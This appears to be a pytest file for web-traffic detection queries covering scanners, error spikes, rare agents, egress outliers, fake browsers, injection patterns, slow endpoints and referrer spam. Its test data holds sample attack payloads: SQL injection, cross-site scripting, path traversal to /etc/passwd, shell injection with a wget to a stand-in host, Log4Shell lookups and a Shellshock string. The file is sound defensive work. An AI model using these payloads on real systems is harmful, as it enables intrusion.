"""Saved queries about traffic: each finds what is there, and not what merely resembles it."""

from typing import Any

import pytest

from tests.unit.query.asked import Ask, Row, ask, at, days_ago, minutes_ago, row

__all__ = ["ask"]

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


def test_path_scanners(ask: Ask) -> None:
    def asks(address: str, paths: int, missed: int, times: int = 1) -> list[Row]:
        return [
            row(minutes_ago(60 + n / 60), address, 404 if n < missed else 200, path=f"/{address[-1]}/{n}", agent="x")
            for n in range(paths)
            for _ in range(times)
        ]

    rows = [
        *asks("203.0.113.1", 42, 40),
        *asks("203.0.113.2", 200, 40),  # a crawler that meets dead links
        *asks("203.0.113.3", 29, 29),  # one too few
        *asks("203.0.113.4", 1, 1, 500),  # one dead link, asked for all day
        *[row(days_ago(2), "203.0.113.5", 404, path=f"/{n}") for n in range(50)],
    ]
    (found,) = ask("path_scanners", rows)
    assert {
        name: found[name] for name in ("source_address", "paths_missed", "misses", "requests_made", "miss_share", "found", "agents")
    } == {
        "source_address": "203.0.113.1",
        "paths_missed": 40,
        "misses": 40,
        "requests_made": 42,
        "miss_share": pytest.approx(40 / 42, abs=0.001),
        "found": ["/1/40", "/1/41"],
        "agents": 1,
    }
    assert found["examples"] == ["/1/0", "/1/1", "/1/10", "/1/11", "/1/12"]
    assert [r["source_address"] for r in ask("path_scanners", rows, share="0.1")] == ["203.0.113.1", "203.0.113.2"]
    assert [r["source_address"] for r in ask("path_scanners", rows, window="3d")] == ["203.0.113.5", "203.0.113.1"]


def hours(first: float, last: float, each: int, errors: int, status: int) -> list[Row]:
    """So many requests in each hour between so many hours ago, and so many of them errors."""
    return [
        row(minutes_ago(60 * hour - 10 - n / 10), status=status if n < errors else 200)
        for hour in range(int(last), int(first) + 1)
        for n in range(each)
    ]


def test_error_spikes(ask: Ask) -> None:
    rows = [
        *hours(100, 30, 40, 1, 404),  # usual: one in forty is not found
        *hours(29, 4, 40, 1, 404),
        *hours(3, 3, 60, 30, 500),  # half an hour's outage
        *hours(2, 2, 400, 10, 404),  # more traffic, and as many errors as belong to it
        *hours(1, 1, 40, 19, 503),  # many, and fewer than are asked for
    ]
    (found,) = ask("error_spikes", rows)
    assert (found["class"], found["errors"], found["requests_made"], found["share"], found["usual_share"]) == ("5xx", 30, 60, 0.5, 0.0)
    assert (found["deviations"], found["begins"]) == (50.0, at("03-11 09:00"))
    assert [r["errors"] for r in ask("error_spikes", rows, least="19")] == [30, 19]
    assert ask("error_spikes", rows, deviations="60") == []
    assert ask("error_spikes", rows, baseline="30 hours") == [], "five hours are no past to compare with"
    assert [r["errors"] for r in ask("error_spikes", rows, baseline="30 hours", stretches="3")] == [30]


def test_rare_agents(ask: Ask) -> None:
    def sends(agent: str | None, times: int, address: str = "203.0.113.1", days: float = 0.01) -> list[Row]:
        return [row(days_ago(days), address, 404 if n % 2 else 200, agent=agent, path=f"/{n}") for n in range(times)]

    rows = [
        *[each for n in range(60) for each in sends(FIREFOX, 200, f"198.51.100.{n}", 0.1 + n / 20)],
        *sends("xploit/0.1", 8),
        *sends("once/1.0", 4),  # too few to matter
        *[each for n in range(3) for each in sends("shared/1.0", 3, f"198.51.100.{n}")],  # three people have it
        *sends("backup/2.0", 6, days=0.02),
        *[each for n in range(1, 7) for each in sends("backup/2.0", 20, days=n)],  # one machine, every night
        *sends("old/1.0", 9, days=3),  # not today
        *sends(None, 5, "203.0.113.7"),
    ]
    found = ask("rare_agents", rows)
    assert [(r["agent"], r["recent_requests"], r["addresses"], r["an_address"]) for r in found] == [
        ("xploit/0.1", 8, 1, "203.0.113.1"),
        ("-", 5, 1, "203.0.113.7"),
    ]
    assert (found[0]["all_requests"], found[0]["paths"], found[0]["errors"]) == (8, 8, 4)
    assert [r["agent"] for r in ask("rare_agents", rows, share="0.1")] == ["xploit/0.1", "backup/2.0", "-"]
    assert [r["agent"] for r in ask("rare_agents", rows, addresses="3")] == ["shared/1.0", "xploit/0.1", "-"]


def test_egress_outliers(ask: Ask) -> None:
    mega = 1_000_000

    def gets(user: str | None, day: float, *megas: int, address: str = "203.0.113.1") -> list[Row]:
        return [row(days_ago(day), address, user=user, bytes=m * mega, path=f"/file/{m}") for m in megas]

    rows = [
        *[each for n in range(1, 8) for each in gets("ann", n + 0.5, 10, 20)],
        *gets("ann", 0.2, 300, 100),  # thirteen times her usual day
        *[each for n in range(1, 8) for each in gets("bob", n + 0.5, 400)],
        *gets("bob", 0.2, 500),  # much, as always
        *[each for n in range(1, 8) for each in gets("cid", n + 0.5, 1)],
        *gets("cid", 0.2, 90),  # ninety times, and still little
        *gets(None, 0.2, 1400, address="203.0.113.9"),  # never seen: compared with the others
        *gets(None, 0.2, 120, address="203.0.113.8"),
        *gets(None, 0.2, 130, address="203.0.113.7"),
    ]
    found = ask("egress_outliers", rows)
    assert [(r["client"], r["bytes"], r["usual_bytes"], r["past_stretches"]) for r in found] == [
        ("203.0.113.9", 1400 * mega, 265 * mega, 0),
        ("ann", 400 * mega, 30 * mega, 7),
    ]
    assert (found[1]["times_usual"], found[1]["largest"], found[1]["largest_path"]) == (13.3, 300 * mega, "/file/300")


def test_top_networks(ask: Ask) -> None:
    def comes(network: int, times: int, when: float = 10, **more: Any) -> list[Row]:
        return [
            row(minutes_ago(when), f"198.51.100.{n}", network=network, source_as_organization_name=f"AS {network}", **more)
            for n in range(times)
        ]

    rows = [
        *comes(64500, 6, bytes=100, country="SE", user="ann"),
        *comes(64500, 2, 60 * 30),
        *comes(64501, 8, device="bot", status=404),
        *comes(64502, 9, 60 * 30),  # yesterday's only
        *[row(minutes_ago(1)) for _ in range(20)],  # of no known network
    ]
    found = ask("top_networks", rows)
    assert [(r["as_number"], r["network"], r["requests_made"], r["times_before"]) for r in found] == [
        (64501, "AS 64501", 8, None),
        (64500, "AS 64500", 6, 3.0),
    ]
    assert [(r["addresses"], r["users"], r["bytes"], r["error_share"], r["bot_share"], r["countries"]) for r in found] == [
        (8, 0, 0, 1.0, 1.0, None),
        (6, 1, 600, 0.0, 0.0, ["SE"]),
    ]
    assert len(ask("top_networks", rows, most="1")) == 1


def browses(address: str, pages: int, per_minute: int, every: int = 0, referrer: str | None = None, **more: Any) -> list[Row]:
    """So many pages; behind each ``every``-th one an image."""
    told: dict[str, Any] = {"agent": FIREFOX, "browser": "Firefox", "device": "desktop", "referrer": referrer, **more}
    rows = [row(minutes_ago(600 - n / per_minute), address, path=f"/page/{n}", **told) for n in range(pages)]
    return rows + [row(each["event_time"], address, path=f"/i/{n}.PNG", **told) for n, each in enumerate(rows) if every and n % every == 0]


def test_false_browsers(ask: Ask) -> None:
    rows = [
        *browses("203.0.113.1", 150, 30),
        *browses("203.0.113.2", 150, 30, every=2),  # loads pictures
        *browses("203.0.113.3", 150, 30, referrer="https://shop.example/"),  # follows links
        *browses("203.0.113.4", 99, 30),  # too little to judge
        *browses("203.0.113.5", 150, 2),  # at a reader's pace
        *browses("203.0.113.6", 150, 30, agent="Mozilla/5.0 (compatible; Googlebot/2.1)", device="bot"),  # says what it is
        *browses("203.0.113.7", 150, 30, agent="curl/8.5.0"),
    ]
    (found,) = ask("false_browsers", rows)
    assert (found["source_address"], found["browser"], found["pages"], found["requests_made"]) == ("203.0.113.1", "Firefox", 150, 150)
    assert 29 <= found["per_minute"] <= 31
    assert (found["asset_share"], found["referrer_share"]) == (0.0, 0.0)
    assert [r["source_address"] for r in ask("false_browsers", rows, assets="1")] == ["203.0.113.2", "203.0.113.1"]
    assert [r["source_address"] for r in ask("false_browsers", rows, per_minute="2")] == ["203.0.113.1", "203.0.113.5"]


ATTACKS = {
    "sql": [
        "id=1%27%20OR%20%271%27=%271",
        "id=1+or+1=1--",
        "id=-1+UNION+ALL+SELECT+NULL,NULL,version()",
        "id=1/**/union/**/select/**/password/**/from/**/users",
        "q=1;DROP+TABLE+users",
        "id=1+and+sleep(5)",
        "id=1%2527%2520or%2520%25271%2527=%25271",
    ],
    "script": ["q=%3Cscript%3Ealert(1)%3C/script%3E", "q=<img+src=x+onerror=alert(1)>", "u=javascript:alert(1)"],
    "file": ["f=../../../../etc/passwd", "f=..%2f..%2f..%2fboot.ini", "f=%252e%252e%252f%252e%252e%252fx", "f=php://filter/x"],
    "shell": ["c=;cat+/etc/group", "c=1%7Cid", "c=$(whoami)", "c=%60id%60", "c=a%26%26wget+http://x.example/a"],
    "template": ["x=$%7Bjndi:ldap://x.example/a%7D", "x=%7B%7B7*7%7D%7D", "x=${${lower:j}ndi:x}"],
}
HARMLESS = [
    "q=credit+union+select+committee",
    "q=rock+and+roll+or+jazz",
    "q=o%27neill+and+sons",
    "q=tom+%26+jerry",
    "id=5&ls=7",
    "a=1&id",
    "q=drop+shipping;update+later",
    "q=how+to+sleep+better",
    "q=%3Cb%3E+bold",
    "next=../overview",
    "price=${currency}",
    "q=java+script+onboarding",
    "x=%ff%fe%zz%",
    "x=%00",
    "",
]


@pytest.mark.parametrize("kind", ATTACKS)
def test_injection_patterns(ask: Ask, kind: str) -> None:
    rows = [row(minutes_ago(n), f"203.0.113.{n}", (200, 500, 404)[n % 3], query=text) for n, text in enumerate(ATTACKS[kind])]
    found = ask("injection_patterns", rows)
    assert {r["source_address"] for r in found if r["kind"] == kind} == {each["source_address"] for each in rows}
    by_address = {r["source_address"]: r for r in found if r["kind"] == kind}
    assert (by_address["203.0.113.0"]["answered"], by_address["203.0.113.0"]["failed"]) == (1, 0)
    assert (by_address["203.0.113.1"]["answered"], by_address["203.0.113.1"]["failed"]) == (0, 1)
    assert by_address["203.0.113.0"]["example"] == f"/?{ATTACKS[kind][0]}"


def test_what_is_no_injection(ask: Ask) -> None:
    rows = [row(minutes_ago(n), query=text, agent=FIREFOX, referrer="https://shop.example/?a=1&id") for n, text in enumerate(HARMLESS)]
    assert ask("injection_patterns", rows) == []


def test_injections_in_other_places(ask: Ask) -> None:
    rows = [
        row(minutes_ago(1), "203.0.113.1", agent="() { :; }; /bin/x"),
        row(minutes_ago(1), "203.0.113.2", agent="${jndi:ldap://x.example/a}"),
        row(minutes_ago(1), "203.0.113.3", path="/cgi/../../../../etc/passwd"),
        row(minutes_ago(1), "203.0.113.3", path="/%ff../../../../etc/passwd"),  # bytes that are no text hide nothing
        row(minutes_ago(1), "203.0.113.4", referrer="https://x.example/<script>"),
        row(days_ago(2), "203.0.113.5", agent="() { :; }; /bin/x"),
    ]
    found = [(r["source_address"], r["kind"], r["requests_made"]) for r in ask("injection_patterns", rows)]
    assert sorted(found) == [
        ("203.0.113.1", "shell", 1),
        ("203.0.113.2", "template", 1),
        ("203.0.113.3", "file", 2),
        ("203.0.113.4", "script", 1),
    ]
    assert [r["kind"] for r in ask("injection_patterns", rows, least="2")] == ["file"]


def test_slow_endpoints(ask: Ask) -> None:
    def took(path: str, ms: int, times: int = 40, days: float = 0.1, status: int = 200) -> list[Row]:
        return [
            row(days_ago(days), path=path.format(n), domain="shop.example", nanoseconds=ms * 1_000_000, status=status) for n in range(times)
        ]

    rows = [
        *took("/order/{}", 300, days=3),
        *took("/order/{}", 2000, status=504),  # seven times as long as before
        *took("/report/{}", 3000, days=3),
        *took("/report/{}", 3100),  # slow, as always
        *took("/search", 300),  # not slow
        *took("/search", 10, days=3),
        *took("/rare", 9000, 10),  # too few
        *took("/new", 1500),  # has no past
        *took("/fast/{}", 10, 100),
        *took("/fast/{}", 9000, 3),  # three of a hundred
    ]
    found = ask("slow_endpoints", rows)
    assert [(r["endpoint"], r["p95_ms"], r["usual_ms"], r["times_usual"]) for r in found] == [
        ("/order/*", 2000.0, 300.0, 6.7),
        ("/new", 1500.0, None, None),
    ]
    assert (found[0]["requests_made"], found[0]["errors"], found[0]["url_domain"]) == (40, 40, "shop.example")
    assert [r["endpoint"] for r in ask("slow_endpoints", rows, times="0")] == ["/report/*", "/order/*", "/new"]
    assert [r["endpoint"] for r in ask("slow_endpoints", rows, milliseconds="200")] == ["/order/*", "/new", "/search"]


def test_referrer_spam(ask: Ask) -> None:
    def visits(first: int, clients: int, *referrers: str | None, times: int = 1) -> list[Row]:
        return [
            row(minutes_ago(20 - n), f"203.0.113.{first + client}", referrer=referrer, domain="www.shop.example", path=f"/{n}")
            for client in range(clients)
            for n, referrer in enumerate(referrers * times)
        ]

    spam, shop, search = "http://www.casino.example/win", "https://shop.example/", "https://search.example/"
    rows = [
        *visits(0, 4, spam, times=3),
        *visits(10, 20, search, shop, None),  # visitors who came by a search and went on
        *visits(40, 2, "http://two.example/", times=9),  # two clients only
        *visits(50, 4, "http://few.example/", times=2),  # eight requests only
        *visits(60, 5, shop, times=3),  # one's own
        *visits(70, 5, "https://cdn.own.example/x", times=3),
        *visits(80, 5, None, "-", times=9),
    ]
    found = ask("referrer_spam", rows, own="(^|\\.)own\\.example$")
    assert [(r["site"], r["clients"], r["pure_share"], r["requests_made"], r["paths"]) for r in found] == [
        ("casino.example", 4, 1.0, 12, 3)
    ]
    assert [r["site"] for r in ask("referrer_spam", rows)] == ["cdn.own.example", "casino.example"]
    assert [r["site"] for r in ask("referrer_spam", rows, own="own", clients="2", least="8")] == [
        "two.example",
        "casino.example",
        "few.example",
    ]
